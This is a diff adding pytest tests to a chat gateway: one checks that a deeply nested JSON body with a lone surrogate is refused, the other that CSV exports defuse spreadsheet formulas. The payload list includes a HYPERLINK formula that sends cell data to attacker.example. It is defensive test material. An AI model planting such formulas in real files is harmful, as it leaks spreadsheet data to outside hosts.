@@ -6,6 +6,7 @@ gateways are started here, each on a database of its own.
 
 from __future__ import annotations
 
+import csv
 import io
 import logging
 import time
@@ -16,6 +17,7 @@ import httpx
 import pytest
 
 from parley_contract.logging import make_handler
+from tests.gateway.admin_support import TenantKeys, new_tenant, post_message
 from tests.support.stack import Stack
 
 SURROGATE = "\\ud800"  # as it is written inside a JSON string: a lone high surrogate
@@ -118,3 +120,51 @@ def test_a_lone_surrogate_on_chat_completions_is_refused_in_openais_shape(
         error["message"] == "messages.0.content: String contains an unpaired UTF-16 surrogate; send valid Unicode text"
     )
     assert marker not in settled(gateway_log)
+
+
+def test_a_deeply_nested_body_with_a_lone_surrogate_is_refused_not_crashed(gateway: Stack) -> None:
+    nested = "[" * 800 + '"' + SURROGATE + '"' + "]" * 800
+    body = raw_json(
+        '{{"channel": "web", "chat_id": "c", "user": {{"id": "u1"}}, "text": "hi", "extra": {nested}}}', nested=nested
+    )
+    response = post_raw(gateway.client(), "/api/v1/messages", body)
+    assert response.status_code == 422, response.text
+    assert "unpaired UTF-16 surrogate" in response.json()["detail"][0]["msg"]
+
+
+# ---- finding 8: formulas in CSV exports ----
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+2",
+    "\r=1+2",
+]
+
+
+def exported_rows(tenant: TenantKeys, path: str) -> list[list[str]]:
+    response = tenant.admin.get(tenant.url(path), params={"format": "csv"})
+    assert response.status_code == 200, response.text
+    return list(csv.reader(io.StringIO(response.text, newline="")))
+
+
+def test_csv_exports_defuse_cells_a_spreadsheet_would_run(gateway: Stack) -> None:
+    tenant = new_tenant(gateway)
+    chat_id = "=1+2"
+    for text in [*FORMULAS, "a plain question = fine"]:
+        post_message(tenant, text, chat_id=chat_id)
+    conversation = tenant.admin.get(tenant.url("/conversations")).json()["items"][0]["conversation_id"]
+
+    header, *rows = exported_rows(tenant, "/conversations/export")
+    assert header[:3] == ["conversation_id", "channel", "chat_id"]
+    assert {row[2] for row in rows} == {"'=1+2"}
+    texts = [row[header.index("text")] for row in rows]
+    assert sorted(texts) == sorted(["'" + formula for formula in FORMULAS] + ["a plain question = fine"])
+
+    header, *rows = exported_rows(tenant, f"/conversations/{conversation}/export")
+    assert sorted(row[header.index("text")] for row in rows) == sorted(texts)
+    # JSON exports are data, not a spreadsheet: the text stays exactly as written.
+    exported = tenant.admin.get(tenant.url(f"/conversations/{conversation}/export")).json()
+    assert exported["chat_id"] == chat_id and FORMULAS[0] in [m["text"] for m in exported["messages"]]
